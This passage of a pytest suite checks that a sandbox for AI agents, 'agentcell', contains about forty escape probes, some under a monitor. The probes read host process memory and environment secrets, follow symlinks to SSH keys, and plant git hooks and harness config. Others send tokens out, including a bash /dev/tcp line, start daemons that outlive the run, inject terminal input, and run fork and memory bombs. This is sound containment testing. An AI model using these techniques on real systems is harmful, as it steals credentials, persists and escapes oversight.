    return Attempt(py(PROC_ROOT, secret, pid), in_output(tok))


@probe("proc_fd_of_host_process")
def _(w: World) -> Attempt:
    tok = w.token("procfd")
    secret = w.plant("victim-file", tok, mode=0o644)
    fd = os.open(secret, os.O_RDONLY)
    try:
        pid = w.victim(pass_fds=(fd,))
    finally:
        os.close(fd)
    return Attempt(py(PROC_FD, pid), in_output(tok))


@probe("proc_mem_of_host_process")
def _(w: World) -> Attempt:
    tok = w.token("mem")
    pid = w.victim(env_token=tok)
    return Attempt(py(PROC_MEM, pid), in_output(tok))


@probe("process_vm_readv_of_host_process")
def _(w: World) -> Attempt:
    tok = w.token("vmreadv")
    pid = w.victim(env_token=tok)
    return Attempt(py(VM_READV, pid), in_output(tok))


@probe("pidfd_getfd_from_host_process")
def _(w: World) -> Attempt:
    # The victim holds an fd to a root-only file (handed to it at start, as a service's sockets are).
    tok = w.token("pidfd")
    secret = w.plant("root-only", tok, mode=0o600)
    fd = os.open(secret, os.O_RDONLY)
    try:
        pid = w.victim(pass_fds=(fd,))
    finally:
        os.close(fd)
    return Attempt(py(PIDFD_GETFD, pid, fd), in_output(tok))


@probe("ptrace_host_process")
def _(w: World) -> Attempt:
    pid = w.victim()

    def traced() -> str | None:
        status = Path(f"/proc/{pid}/status").read_text()
        tracer = next(ln.split()[1] for ln in status.splitlines() if ln.startswith("TracerPid:"))
        return f"host pid {pid} is traced by {tracer}" if tracer != "0" else None
    return Attempt(py(PTRACE, pid, w.tag), held_evidence, hold=traced)


# Inherited descriptors and environment ----------------------------------------------------------------

@probe("inherited_fd_to_root_only_file")
def _(w: World) -> Attempt:
    tok = w.token("fd")
    fd = os.open(w.plant("root-only", tok, mode=0o600), os.O_RDONLY)
    w.defer(lambda: os.close(fd))
    return Attempt(py(READ_FDS), in_output(tok), pass_fds=(fd,))


@probe("inherited_directory_fd")
def _(w: World) -> Attempt:
    tok = w.token("dirfd")
    secret = w.plant("fddir/secret", tok)
    fd = os.open(secret.parent, os.O_RDONLY | os.O_DIRECTORY)
    w.defer(lambda: os.close(fd))
    return Attempt(py(READ_FDS), in_output(tok), pass_fds=(fd,))


@probe("env_api_keys")
def _(w: World) -> Attempt:
    tok = w.token("apikey")
    env = {k: tok for k in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")}
    return Attempt(py(PRINT_ENV), in_output(tok), env=env)


@probe("env_secret_under_an_innocent_name")
def _(w: World) -> Attempt:
    tok = w.token("env")
    return Attempt(py(PRINT_ENV), in_output(tok), env={"BUILD_OPTIONS": tok})


# Out of the writable project --------------------------------------------------------------------------

@probe("symlink_read_out_of_project")
def _(w: World) -> Attempt:
    tok = w.token("symlink")
    key = w.plant("home/.ssh/id_ed25519", tok)
    return Attempt(py(SYMLINK_READ, w.project / "key-link", key), in_output(tok))


@probe("symlink_write_out_of_project")
def _(w: World) -> Attempt:
    tok = w.token("symlink-w")
    rc = w.plant("home/.bashrc", "# the user's own rc\n", owner=w.user)
    return Attempt(py(SYMLINK_WRITE, w.project / "rc-link", rc, tok), file_gained(rc, tok))


def _hardlink_judge(src: Path, link: Path, tok: str) -> Callable[[Outcome], str | None]:
    def judge(o: Outcome) -> str | None:
        if src.stat().st_nlink != 1 or link.exists():
            return f"{link} is a hard link to {src}"
        return file_gained(src, tok)(o)
    return judge


@probe("hardlink_hidden_file_into_project")
def _(w: World) -> Attempt:
    tok = w.token("hardlink")
    src = w.plant("home/notes", "mine\n", mode=0o600, owner=w.user)
    link = w.project / "notes-link"
    return Attempt(py(HARDLINK_WRITE, src, link, tok), _hardlink_judge(src, link, tok))


@probe("hardlink_ro_file_into_project")
def _(w: World) -> Attempt:
    tok = w.token("hardlink-ro")
    src = w.plant("ro/notes", "mine\n", mode=0o600, owner=w.user)
    link = w.project / "notes-link"
    return Attempt(py(HARDLINK_WRITE, src, link, tok), _hardlink_judge(src, link, tok), flags=["--ro", str(src.parent)])


def _writing_outside(w: World, path: Path, caps: str = "") -> Attempt:
    tok = w.token("write")
    w.defer(lambda: path.unlink(missing_ok=True))
    return Attempt(py(WRITE_FILE, path, tok), file_gained(path, tok), baseline_caps=caps)


@probe("write_into_usr")
def _(w: World) -> Attempt:
    # The plain run is given CAP_DAC_OVERRIDE (as a harness run as root has): /usr is root's.
    return _writing_outside(w, Path("/usr/local") / f"{w.tag}-planted", "+dac_override")


@probe("write_into_etc")
def _(w: World) -> Attempt:
    return _writing_outside(w, Path("/etc") / f"{w.tag}-planted", "+dac_override")


@probe("write_into_the_humans_home")
def _(w: World) -> Attempt:
    human = w.human()
    rc = w.plant(".bashrc", "# the human's own\n", mode=0o666, owner=human, base=Path(f"/home/{human.name}"))
    tok = w.token("human-rc")
    return Attempt(py(WRITE_FILE, rc, tok), file_gained(rc, tok))


@probe("plant_in_tmp")
def _(w: World) -> Attempt:
    path = Path("/tmp") / (w.tag + "-plant")
    w.defer(lambda: path.unlink(missing_ok=True))
    return Attempt(py(WRITE_FILE, path, w.token("tmp")), exists_on_host(path))


@probe("plant_in_dev_shm")
def _(w: World) -> Attempt:
    path = Path("/dev/shm") / (w.tag + "-plant")
    w.defer(lambda: path.unlink(missing_ok=True))
    return Attempt(py(WRITE_FILE, path, w.token("shm")), exists_on_host(path))


@probe("plant_in_var_tmp")
def _(w: World) -> Attempt:
    path = Path("/var/tmp") / (w.tag + "-plant")
    w.defer(lambda: path.unlink(missing_ok=True))
    return Attempt(py(WRITE_FILE, path, w.token("vartmp")), exists_on_host(path))


# Persistence inside the project (protected paths) --------------------------------------------------

def _repo(w: World, at: Path) -> None:
    for rel, text in ((".git/HEAD", "ref: refs/heads/main\n"), (".git/config", "[core]\n\tbare = false\n"),
                      (".git/hooks/README", "hooks\n"), (".git/refs/heads/.keep", ""),
                      (".git/objects/.keep", "")):
        w.plant(rel, text, owner=w.user, base=at)


def _planting(w: World, rel: str, *, setup: Callable[[], None] | None = None) -> Attempt:
    tok = w.token("persist")
    if setup:
        setup()
    path = w.project / rel
    return Attempt(py(WRITE_FILE, path, tok), file_gained(path, tok))


@probe("git_hook_in_project")
def _(w: World) -> Attempt:
    return _planting(w, ".git/hooks/pre-commit", setup=lambda: _repo(w, w.project))


@probe("git_config_fsmonitor_in_project")
def _(w: World) -> Attempt:
    return _planting(w, ".git/config", setup=lambda: _repo(w, w.project))


@probe("git_hook_of_nested_repo")
def _(w: World) -> Attempt:
    return _planting(w, "vendor/lib/.git/hooks/post-checkout", setup=lambda: _repo(w, w.project / "vendor" / "lib"))


def _existing(w: World, rel: str, *, repo: bool = True) -> Callable[[], None]:
    def setup() -> None:
        if repo:
            _repo(w, w.project)
        w.plant(rel, "# the user's own\n", owner=w.user, base=w.project)
    return setup


@probe("harness_config_in_repo")
def _(w: World) -> Attempt:
    return _planting(w, ".claude/settings.json", setup=_existing(w, ".claude/settings.json"))


@probe("mcp_config_in_repo")
def _(w: World) -> Attempt:
    return _planting(w, ".mcp.json", setup=_existing(w, ".mcp.json"))


@probe("shell_rc_in_repo")
def _(w: World) -> Attempt:
    return _planting(w, ".envrc", setup=_existing(w, ".envrc"))


@probe("harness_config_in_project_without_git")
def _(w: World) -> Attempt:
    return _planting(w, ".claude/settings.json", setup=_existing(w, ".claude/settings.json", repo=False))


@probe("harness_config_created_in_project")
def _(w: World) -> Attempt:
    return _planting(w, ".claude/settings.json", setup=lambda: _repo(w, w.project))


@probe("git_hook_after_swapping_the_git_dir")
def _(w: World) -> Attempt:
    _repo(w, w.project)
    tok = w.token("gitswap")
    hook = w.project / ".git" / "hooks" / "pre-commit"
    return Attempt(py(GIT_DIR_SWAP, w.project, tok), file_gained(hook, tok))


# Outliving the cell ------------------------------------------------------------------------------------

@probe("setsid_sleep_outlives_the_run")
def _(w: World) -> Attempt:
    arg = f"{300 + secrets.randbelow(600)}.{secrets.randbelow(10**9):09d}"

    def judge(o: Outcome) -> str | None:
        deadline = time.monotonic() + 1.0  # a loaded machine may not have scheduled the setsid yet
        while True:
            left = pids_of(None, arg)  # sleep itself, or the setsid/sh on their way to exec it
            if left or time.monotonic() > deadline:
                return f"sleep {arg} still runs as {left}" if left else None
            time.sleep(0.05)
    return Attempt(["sh", "-c", f"setsid sleep {arg} >/dev/null 2>&1 </dev/null & exit 0"], judge)


@probe("double_fork_daemon_outlives_the_run")
def _(w: World) -> Attempt:
    def judge(o: Outcome) -> str | None:
        left = pids_of(None, w.tag)
        return f"daemon processes still run: {left}" if left else None
    return Attempt(py(DAEMON, w.tag), judge)


# Network -----------------------------------------------------------------------------------------------

@dataclass
class NetHost:
    v4: str
    v6: str
    loop_tcp4: int
    loop_tcp6: int
    abstract: str
    pathname: str
    log: Path
    control: str

    def received(self, token: str) -> str | None:
        """Ask both listeners to drain what the kernel already holds for them, then read their log."""
        for ctl in (self.control, self.control + "-ns"):
            c = socket.socket(socket.AF_UNIX)
            c.settimeout(10)
            c.connect(ctl)
            c.sendall(b"sync")
            assert c.recv(10) == b"synced"
            c.close()
        data = self.log.read_bytes()
        return "a listener outside the cell received the token" if token.encode() in data else None


LISTENER = """
import json, os, select, socket, sys
log = open(sys.argv[1], "ab", buffering=0)
control = sys.argv[2]
fams = {"4": socket.AF_INET, "6": socket.AF_INET6, "u": socket.AF_UNIX}
socks, ports = [], []
for kind, addr, port in json.loads(sys.argv[3]):
    fam = fams[kind[-1]]
    if kind == "icmp4":  # every echo request that reaches this host, payload and all
        s = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    else:
        s = socket.socket(fam, socket.SOCK_DGRAM if kind.startswith("udp") else socket.SOCK_STREAM)
    if fam == socket.AF_UNIX:
        s.bind("\\0" + addr if kind == "abstractu" else addr)
        if kind != "abstractu":
            os.chmod(addr, 0o777)
    else:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((addr, port))
    if s.type == socket.SOCK_STREAM:
        s.listen(64)
    socks.append(s)
    ports.append(s.getsockname()[1] if fam != socket.AF_UNIX else 0)
ctl = socket.socket(socket.AF_UNIX)
ctl.bind(control)
ctl.listen(4)
conns = []

def handle(timeout):
    r, _, _ = select.select(socks + conns, [], [], timeout)
    for s in r:
        if s in socks and s.type == socket.SOCK_STREAM:
            conns.append(s.accept()[0])
        else:
            data = s.recv(65536)
            if s in conns and not data:
                conns.remove(s)
                s.close()
            else:
                log.write(data + b"\\n")
    return bool(r)

print(json.dumps(ports), flush=True)
while True:
    r, _, _ = select.select([ctl] + socks + conns, [], [])
    if ctl in r:
        c = ctl.accept()[0]
        c.recv(10)
        quiet = 0
        while quiet < 3:
            quiet = 0 if handle(0.02) else quiet + 1
        c.sendall(b"synced")
        c.close()
    else:
        handle(0)
"""


def _ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True)


@pytest.fixture(scope="module")
def nethost() -> Iterator[NetHost]:
    """A test host in a netns of its own (198.19.x.y, fd00:ac:0:x::2) and listeners on the host's loopback,
    an abstract and a pathname unix socket; each logs what it receives to one file."""
    tag = secrets.token_hex(2)
    ns, host_if, peer_if = f"agentcell-e{tag}", f"ac-e{tag}a", f"ac-e{tag}b"
    # 198.19/16 (the benchmark range's upper half; tests/test_network.py uses 198.18/16), one /30 of it
    net = 4 * secrets.randbelow(1 << 14)
    v4_host, v4 = f"198.19.{net >> 8}.{(net & 255) + 1}", f"198.19.{net >> 8}.{(net & 255) + 2}"
    v6 = f"fd00:ac:0:{tag}::2"
    base = Path("/tmp") / f"agentcell-escape-net-{tag}"
    base.mkdir(mode=0o755)
    ctl_dir = base / "control"
    ctl_dir.mkdir(mode=0o700)
    sock_dir = base / "sock"
    sock_dir.mkdir(mode=0o755)
    log = base / "log"
    log.touch()
    procs: list[subprocess.Popen[str]] = []
    try:
        _ip("netns", "add", ns)
        _ip("link", "add", host_if, "type", "veth", "peer", "name", peer_if)
        _ip("link", "set", peer_if, "netns", ns)
        _ip("addr", "add", f"{v4_host}/30", "dev", host_if)
        _ip("addr", "add", f"fd00:ac:0:{tag}::1/64", "dev", host_if, "nodad")
        _ip("link", "set", host_if, "up")
        _ip("-n", ns, "addr", "add", f"{v4}/30", "dev", peer_if)
        _ip("-n", ns, "addr", "add", f"{v6}/64", "dev", peer_if, "nodad")
        _ip("-n", ns, "link", "set", peer_if, "up")
        _ip("-n", ns, "link", "set", "lo", "up")
        inside = [["tcp4", v4, 8080], ["udp4", v4, 8081], ["udp4", v4, 53], ["tcp6", v6, 8080], ["udp6", v6, 8081],
                  ["icmp4", v4, 0]]
        abstract, pathname = f"agentcell-escape-{tag}", str(sock_dir / "s")
        outside = [["tcp4", "127.0.0.1", 0], ["tcp6", "::1", 0], ["abstractu", abstract, 0], ["unixu", pathname, 0]]
        ports = []
        for wrap, ctl, specs in ((["ip", "netns", "exec", ns], str(ctl_dir / "c-ns"), inside),
                                 ([], str(ctl_dir / "c"), outside)):
            p = subprocess.Popen([*wrap, sys.executable, "-c", LISTENER, str(log), ctl, json.dumps(specs)],
                                 stdout=subprocess.PIPE, text=True)
            procs.append(p)
            assert p.stdout is not None
            ports = json.loads(p.stdout.readline())
        yield NetHost(v4, v6, ports[0], ports[1], abstract, pathname, log, str(ctl_dir / "c"))
    finally:
        for p in procs:
            p.kill()
            p.wait()
        subprocess.run(["ip", "link", "del", host_if], capture_output=True)
        subprocess.run(["ip", "netns", "del", ns], capture_output=True)
        shutil.rmtree(base, ignore_errors=True)


def _sending(w: World, kind: str, addr: Callable[[NetHost], str], port: Callable[[NetHost], int],
             flags: tuple[str, ...] = ()) -> Attempt:
    host, tok = w.net, w.token(kind)
    return Attempt(py(SEND, kind, addr(host), port(host), tok), lambda o: host.received(tok), flags=list(flags))


@probe("tcp4_to_test_host")
def _(w: World) -> Attempt:
    return _sending(w, "tcp4", lambda h: h.v4, lambda h: 8080)


@probe("udp4_to_test_host")
def _(w: World) -> Attempt:
    return _sending(w, "udp4", lambda h: h.v4, lambda h: 8081)


@probe("dns_query_to_test_host")
def _(w: World) -> Attempt:
    return _sending(w, "dns4", lambda h: h.v4, lambda h: 53)


@probe("tcp6_to_test_host")
def _(w: World) -> Attempt:
    return _sending(w, "tcp6", lambda h: h.v6, lambda h: 8080)


@probe("icmp_echo_to_test_host")
def _(w: World) -> Attempt:
    # An ordinary account may open neither ping's socket (net.ipv4.ping_group_range) nor a raw one: the plain
    # run is given CAP_NET_RAW (as ping's file capability gives it).
    a = _sending(w, "icmp4", lambda h: h.v4, lambda h: 0)
    a.baseline_caps = "+net_raw"
    return a


@probe("udp6_to_test_host")
def _(w: World) -> Attempt:
    return _sending(w, "udp6", lambda h: h.v6, lambda h: 8081)


@probe("bash_dev_tcp_to_test_host")
def _(w: World) -> Attempt:
    host, tok = w.net, w.token("devtcp")
    return Attempt(["bash", "-c", f"echo {tok} > /dev/tcp/{host.v4}/8080"], lambda o: host.received(tok))


@probe("host_loopback_tcp4")
def _(w: World) -> Attempt:
    return _sending(w, "tcp4", lambda h: "127.0.0.1", lambda h: h.loop_tcp4)


@probe("host_loopback_tcp4_under_net_loopback")
def _(w: World) -> Attempt:
    return _sending(w, "tcp4", lambda h: "127.0.0.1", lambda h: h.loop_tcp4, ("--net", "loopback"))


@probe("host_loopback_tcp6")
def _(w: World) -> Attempt:
    return _sending(w, "tcp6", lambda h: "::1", lambda h: h.loop_tcp6, ("--net", "loopback"))


@probe("abstract_unix_socket_of_host")
def _(w: World) -> Attempt:
    return _sending(w, "abstractu", lambda h: h.abstract, lambda h: 0, ("--net", "loopback"))


@probe("pathname_unix_socket_of_host")
def _(w: World) -> Attempt:
    return _sending(w, "unixu", lambda h: h.pathname, lambda h: 0)


@probe("listening_port_reached_from_host")
def _(w: World) -> Attempt:
    tok = w.token("listen")
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]

    def connect() -> str | None:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=3) as c:
                got = c.recv(200).decode(errors="replace")
        except OSError:
            return None
        return f"the host reached a listener on 127.0.0.1:{port}" if tok in got else None
    return Attempt(py(LISTEN_HOLD, port, tok, w.tag), held_evidence, flags=["--net", "loopback"], hold=connect)


# Privilege -----------------------------------------------------------------------------------------

def _bin_dir(w: World) -> Path:
    d = w.dir / "bin"
    d.mkdir(mode=0o755)
    return d


@probe("setuid_root_binary_on_shared_ro_path")
def _(w: World) -> Attempt:
    d = _bin_dir(w)
    shutil.copy2("/usr/bin/id", d / "id")
    os.chmod(d / "id", 0o4755)

    def judge(o: Outcome) -> str | None:
        return "the setuid copy of id ran with euid 0" if "0" in o.out.split() else None
    return Attempt([str(d / "id"), "-u"], judge, flags=["--ro", str(d)])


@probe("file_capability_binary_on_shared_ro_path")
def _(w: World) -> Attempt:
    d = _bin_dir(w)
    tok = w.token("fcap")
    shutil.copy2("/usr/bin/cat", d / "cat")
    # security.capability v2: cap_dac_read_search (2) permitted and effective
    os.setxattr(d / "cat", "security.capability", struct.pack("<IIIII", 0x02000001, 1 << 2, 0, 0, 0))
    secret = w.plant("bin/root-only", tok, mode=0o600)
    return Attempt([str(d / "cat"), str(secret)], in_output(tok), flags=["--ro", str(d)])


def _mounted(tag: str, source: str) -> Callable[[], str | None]:
    def look() -> str | None:
        for pid in pids_of(None, tag) + [os.getpid()]:
            try:
                info = Path(f"/proc/{pid}/mountinfo").read_text()
            except OSError:
                continue
            if f" {source} " in info:
                return f"a tmpfs named {source} is mounted in pid {pid}'s mount namespace"
        return None
    return look


@probe("mount_tmpfs")
def _(w: World) -> Attempt:
    # An ordinary account cannot mount anything, so the plain run is given CAP_SYS_ADMIN (as a harness
    # that runs its agent as root would) in a private mount namespace of its own.
    source = w.token("mount")
    return Attempt(py(MOUNT, w.project / "mnt", source, w.tag), held_evidence,
                   hold=_mounted(w.tag, source), baseline_caps="+sys_admin",
                   baseline_wrap=["unshare", "--mount", "--propagation", "private"])


@probe("unshare_user_ns_then_mount")
def _(w: World) -> Attempt:
    source = w.token("userns")
    return Attempt(["unshare", "-Urm", *py(MOUNT, w.project / "mnt", source, w.tag)], held_evidence,
                   hold=_mounted(w.tag, source), may_stop_early=True)


@probe("keyring_add_key")
def _(w: World) -> Attempt:
    desc = w.token("key")

    def judge(o: Outcome) -> str | None:
        if "added" in o.out.split():  # (a session's account, gone by now, had a keyring of its own)
            return "the kernel took the key"
        p = subprocess.run([*w.user.prefix(), *py(FIND_KEY, desc)], capture_output=True, text=True, check=True,
                           env=PROBE_USER_ENV)
        serial = int(p.stdout.strip())
        return f"key {desc} is in the user keyring of uid {w.user.uid} (serial {serial})" if serial > 0 else None
    return Attempt(py(ADD_KEY, desc), judge)


@probe("tiocsti_into_the_terminal")
def _(w: World) -> Attempt:
    # The probe's terminal is a pty the test owns: whatever lands in its input queue would be read by the
    # next program on that terminal (the person's shell).
    tok = w.token("tiocsti")
    master, slave = os.openpty()
    w.defer(lambda: (os.close(master), os.close(slave)))

    def judge(o: Outcome) -> str | None:
        os.set_blocking(slave, False)
        try:
            pending = os.read(slave, 4096)
        except BlockingIOError:
            pending = b""
        return "the token was pushed into the terminal's input" if tok.encode() in pending else None
    return Attempt(py(TIOCSTI, tok), judge, tty=slave)


@probe("io_uring_setup")
def _(w: World) -> Attempt:
    return Attempt(py(IO_URING, w.tag), held_evidence, hold=fds_of_kind(w.tag, "[io_uring]"))


@probe("userfaultfd")
def _(w: World) -> Attempt:
    return Attempt(py(USERFAULTFD, w.tag), held_evidence, hold=fds_of_kind(w.tag, "[userfaultfd]"))


@probe("perf_event_open")
def _(w: World) -> Attempt:
    return Attempt(py(PERF, w.tag), held_evidence, hold=fds_of_kind(w.tag, "[perf_event]"))


@probe("bpf_map_create")
def _(w: World) -> Attempt:
    # kernel.unprivileged_bpf_disabled keeps ordinary accounts out of bpf(2) here; the plain run gets CAP_BPF.
    return Attempt(py(BPF_MAP, w.tag), held_evidence, hold=fds_of_kind(w.tag, "bpf-map"),
                   baseline_caps="+bpf")


@probe("device_node_of_the_host")
def _(w: World) -> Attempt:
    # A device node of the host that the cell's /dev does not have (a char device the world may open: the
    # plain run needs nothing more); judged by the probe's fds while it holds.
    node = Path("/dev") / w.tag
    w.defer(lambda: node.unlink(missing_ok=True))
    os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    os.chmod(node, 0o666)

    def holds() -> str | None:
        for pid in pids_of(None, w.tag):
            for fd in os.listdir(f"/proc/{pid}/fd") if os.path.isdir(f"/proc/{pid}/fd") else ():
                try:
                    st = os.stat(f"/proc/{pid}/fd/{fd}")
                except OSError:
                    continue
                if stat.S_ISCHR(st.st_mode) and st.st_rdev == os.makedev(1, 3) and \
                        os.readlink(f"/proc/{pid}/fd/{fd}") == str(node):
                    return f"pid {pid} holds fd {fd} on the host's device {node}"
        return None
    return Attempt(py(OPEN_HOLD, node, w.tag), held_evidence, hold=holds)


def _cgroup2() -> Path | None:
    for line in Path("/proc/self/mounts").read_text().splitlines():
        fields = line.split()
        if fields[2] == "cgroup2":
            return Path(fields[1])
    return None


@probe("control_group_made_in_sys_fs_cgroup")
def _(w: World) -> Attempt:
    # A control group delegated to the probe's account (as systemd delegates one to a user's session): the
    # plain run may make a child of it, outside any ceiling agentcell set. In a cell there is no /sys.
    root = _cgroup2()
    assert root is not None, "no cgroup2 hierarchy is mounted"
    given = root / w.tag
    child = given / "planted"

    def undo() -> None:
        for d in (child, given):
            try:
                d.rmdir()
            except FileNotFoundError:
                pass
    w.defer(undo)
    given.mkdir()
    for name in ("", "cgroup.procs", "cgroup.subtree_control"):
        os.chown(given / name, w.user.uid, w.user.gid)
    return Attempt(py(MKDIR, child), lambda o: f"{child} was made on the host" if child.is_dir() else None)


@probe("mknod_char_device_in_project")
def _(w: World) -> Attempt:
    # Creating a device node needs CAP_MKNOD, which the plain run is handed (as a root harness would have).
    node = w.project / "mem-node"

    def judge(o: Outcome) -> str | None:
        try:
            st = os.lstat(node)
        except OSError:
            return None
        return f"{node} is a character device on the host" if stat.S_ISCHR(st.st_mode) else None
    return Attempt(py(MKNOD, node), judge, baseline_caps="+mknod")


# Resources -----------------------------------------------------------------------------------------

@probe("fork_bomb")
def _(w: World) -> Attempt:
    before = len(pids_of(w.user.uid))

    def judge(o: Outcome) -> str | None:
        after = len(pids_of(w.user.uid))
        if after > before:
            return f"uid {w.user.uid} went from {before} to {after} processes"
        limits = o.result.get("limits_hit")
        if isinstance(limits, dict) and not limits.get("pids_limit_hits"):
            return "the bomb never met the pids ceiling"
        return None
    return Attempt(py(FORK_BOMB, 64, w.tag), judge, flags=["--pids", "16", "--timeout", "10"])


@probe("memory_bomb")
def _(w: World) -> Attempt:
    def judge(o: Outcome) -> str | None:
        maxrss = getattr(o.rusage, "ru_maxrss", 0) if o.result == {} else 0
        if maxrss > 128 << 10:
            return f"the plain run held {maxrss >> 10} MiB"
        limits = o.result.get("limits_hit")
        if o.result and not (isinstance(limits, dict) and int(limits.get("oom_kills", 0)) >= 1):
            return "the cell was not OOM-killed under --memory 128M"
        return None
    return Attempt(py(MEMORY_BOMB), judge, flags=["--memory", "128M"])


@probe("cpu_spin")
def _(w: World) -> Attempt:
    def judge(o: Outcome) -> str | None:
        used = float(o.result["cpu_s"]) if o.result else o.rusage.ru_utime + o.rusage.ru_stime  # type: ignore[arg-type,union-attr]
        return f"{used:.2f} CPU seconds in a two-second window" if used > 0.6 else None
    return Attempt(py(CPU_SPIN), judge, flags=["--cpu", "20", "--timeout", "2"])


# --------------------------------------------------------------------------------------------------
# The tests


@pytest.fixture
def world(request: pytest.FixtureRequest, user: User, project: Path) -> Iterator[World]:
    w = World(request, user, project)
    try:
        yield w
    finally:
        w.close()


def test_there_are_enough_probes() -> None:
    assert len(PROBES) >= 40


@pytest.mark.parametrize("host", ["run", "warm", "live", "live-watched", "api", "api-live"])
@pytest.mark.parametrize("name", sorted(PROBES))
def test_probe_is_contained(name: str, host: str, world: World, request: pytest.FixtureRequest) -> None:
    """Through ``agentcell run`` (a cell per command, built by the CLI: the in-process host), through the
    warm launcher (its cells, and cell hosts it forks for supervised ones), as a command of a live cell
    (``agentcell cell``; unwatched, and watched as by default) and through the Python API's remote
    host (``agentcell.Cell``), and as a command of its live cell (``Cell.open``), sent on its lane."""
    attempt = PROBES[name](world)
    if name in XFAIL:
        request.node.add_marker(pytest.mark.xfail(strict=True, reason=XFAIL[name]))
    if host == "warm":
        request.getfixturevalue("warm_launcher")
        o = run_contained(attempt, world.user, world.project, warm=True)
    elif host == "run":
        o = run_contained(attempt, world.user, world.project)
    elif host in ("api", "api-live"):
        o = run_api(attempt, world.user, world.project, live=host == "api-live")
    else:
        o = run_live(attempt, world.user, world.project, watched=host == "live-watched")
    # Watched, the monitor may end the cell at the probe's first refused step, before it holds.
    ended_by_monitor = host == "live-watched" and "terminated at an escape attempt" in o.err
    if attempt.hold is not None and not attempt.may_stop_early and not ended_by_monitor:
        assert o.held is not None, f"{name} never reached the point where the host looks\nerr: {o.err[-2000:]}"
    evidence = attempt.judge(o)
    assert evidence is None, f"{name} escaped the cell: {evidence}\nout: {o.out[-2000:]}\nerr: {o.err[-2000:]}"


@pytest.mark.parametrize("name", sorted(PROBES))
def test_probe_escapes_without_agentcell(name: str, world: World) -> None:
    attempt = PROBES[name](world)
    o = run_plain(attempt, world.user)
    evidence = attempt.judge(o)
    assert evidence is not None, (f"{name}: the judge saw no escape without agentcell\n"
                                  f"out: {o.out[-2000:]}\nerr: {o.err[-2000:]}")
